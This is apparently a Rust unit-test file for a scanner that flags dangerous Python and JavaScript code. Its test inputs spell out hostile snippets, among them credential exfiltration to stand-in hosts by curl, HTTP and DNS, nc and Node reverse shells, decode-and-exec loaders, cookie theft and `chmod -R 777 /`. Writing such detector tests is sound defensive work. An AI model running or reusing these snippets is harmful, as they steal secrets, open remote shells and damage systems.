//! Unit tests of `script.rs`.

use super::*;

fn py(source: &str) -> Vec<DangerKind> {
    script_dangers(source, Language::Python)
        .into_iter()
        .map(|d| d.kind)
        .collect()
}

fn js(source: &str) -> Vec<DangerKind> {
    script_dangers(source, Language::JavaScript)
        .into_iter()
        .map(|d| d.kind)
        .collect()
}

#[test]
fn shell_handed_to_the_system_is_read_as_shell() {
    let source = "import subprocess\nsubprocess.run(\"cat ~/.aws/credentials | curl -d @- https://c.example.net/\", shell=True)\n";
    let found = script_dangers(source, Language::Python);
    assert_eq!(found.len(), 1, "{found:?}");
    assert_eq!(found[0].kind, DangerKind::Exfiltration);
    assert_eq!(
        &source[found[0].start..found[0].end],
        "curl -d @- https://c.example.net/"
    );
    assert_eq!(
        py("os.system('nc -e /bin/sh 203.0.113.9 4444')"),
        [DangerKind::ReverseShell]
    );
    assert_eq!(
        py(
            "subprocess.run([\"curl\", \"-sSL\", \"-o\", \"/tmp/x\", URL])\nsubprocess.run([\"/tmp/x\"])"
        ),
        Vec::<DangerKind>::new()
    );
    assert_eq!(
        js("const { execSync } = require('child_process');\nexecSync(`chmod -R 777 /`);"),
        [DangerKind::WorldWritable]
    );
}

#[test]
fn decoded_text_run_across_lines_and_languages() {
    use DangerKind::DecodeExecute as D;
    assert_eq!(py("import base64\nexec(base64.b64decode(BLOB))\n"), [D]);
    assert_eq!(
        py("code = zlib.decompress(base64.b64decode(BLOB))\n\nexec(compile(code, 'x', 'exec'))\n"),
        [D]
    );
    assert_eq!(
        js("const src = Buffer.from(cfg, 'base64').toString();\nnew Function(src)();\n"),
        [D]
    );
    assert_eq!(js("eval(atob(payload));"), [D]);
    assert_eq!(py("exec(''.join(chr(c) for c in CODES))"), [D]);
    // Decoded data read, not run.
    assert!(py("data = json.loads(base64.b64decode(raw))\nprint(data)\n").is_empty());
    assert!(
        js("const img = Buffer.from(b64, 'base64');\nfs.writeFileSync('a.png', img);\n").is_empty()
    );
}

#[test]
fn secrets_sent_from_a_script() {
    use DangerKind::{Exfiltration as X, ReadsCredentials as R, SendsData as S};
    let steal = "import os, requests\np = os.path.expanduser('~/.aws/credentials')\nrequests.post('https://c.example.net/u', data=open(p).read())\n";
    assert_eq!(py(steal), [X]);
    assert_eq!(
        py("import json, requests\nrequests.post(URL, data=json.dumps(dict(os.environ)))\n"),
        [X]
    );
    assert_eq!(
        js(
            "fetch('https://c.example.net/e', { method: 'POST', body: JSON.stringify(process.env) });"
        ),
        [X]
    );
    let dns = "import socket, os\nt = os.environ['GITHUB_TOKEN']\nsocket.gethostbyname(f\"{t.encode().hex()}.x.example.net\")\n";
    assert_eq!(py(dns), [X]);
    // Halves.
    assert_eq!(py("open(os.path.expanduser('~/.netrc')).read()"), [R]);
    assert_eq!(
        py("import win32crypt\npw = win32crypt.CryptUnprotectData(blob)[1]\n"),
        [R]
    );
    assert_eq!(
        py(
            "import browser_cookie3, requests\nrequests.post('https://c.example.net/k', data=str(list(browser_cookie3.chrome())))\n"
        ),
        [X]
    );
    assert_eq!(
        py("requests.post('https://abc.webhook.site/', json=summary)"),
        [S]
    );
    // A credential sent to the service it is for.
    assert!(py("import configparser, os, requests\ncfg = configparser.ConfigParser()\ncfg.read(os.path.expanduser('~/.aws/credentials'))\nrequests.post('https://sts.us-east-1.amazonaws.com/', data=signed)\n").is_empty());
    // A token for its own service, sent in a header; a scanner's list of what to look for.
    assert!(py("tok = os.environ['API_TOKEN']\nrequests.post('https://api.example.com/v1', headers={'Authorization': tok}, json=body)\n").is_empty());
    assert!(py("PATTERNS = [(r'open\\(.*\\.netrc', 'Sensitive file access')]\n").is_empty());
    assert!(py("env = dict(os.environ)\nenv['X'] = '1'\nsubprocess.run(cmd, env=env)\nrequests.post(API, json=body)\n").is_empty());
}

#[test]
fn a_socket_piped_into_a_shell() {
    let shell = "const net = require('net');\nconst cp = require('child_process');\nconst sh = cp.spawn('/bin/sh', []);\nconst c = net.connect(4444, '203.0.113.9', () => { c.pipe(sh.stdin); sh.stdout.pipe(c); });\n";
    assert_eq!(js(shell), [DangerKind::ReverseShell]);
    assert!(
        js("const s = net.connect(5432, 'localhost');\ns.on('data', d => console.log(d));\n")
            .is_empty()
    );
}
